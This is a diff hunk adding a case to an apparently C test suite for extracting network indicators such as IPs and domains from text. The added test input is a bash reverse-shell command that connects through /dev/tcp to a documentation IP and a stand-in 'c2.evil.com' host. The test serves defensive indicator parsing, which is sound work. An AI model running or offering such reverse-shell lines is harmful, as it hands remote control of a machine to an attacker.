@@ -2795,6 +2795,14 @@ test_keyed_values(void **state)
 	    "url http://g.com/?ids=1,2 public\ndomain g.com public\n"
 	    "url http://h.com/a;sid=1,b public\ndomain h.com public\n"
 	    "url http://i.com/a,b public\ndomain i.com public\n");
+	/* a reverse shell's bash network path: its host (session 35:
+	 * none) */
+	expect("bash -i >& /dev/tcp/198.51.100.55/4444 0>&1; exec "
+	    "196<>/dev/tcp/c2.evil.com/443; /dev/udp/203.0.113.9/53 "
+	    "/dev/tcpx/198.51.100.56/1",
+	    "ipv4 198.51.100.55 documentation\n"
+	    "domain c2.evil.com public\n"
+	    "ipv4 203.0.113.9 documentation\n");
 	/* an exploit's download line in an encoded request: the URL ends
 	 * where the shell's next command starts (a word and an encoded
 	 * blank, or a path); a path's parameters and a query's stay.
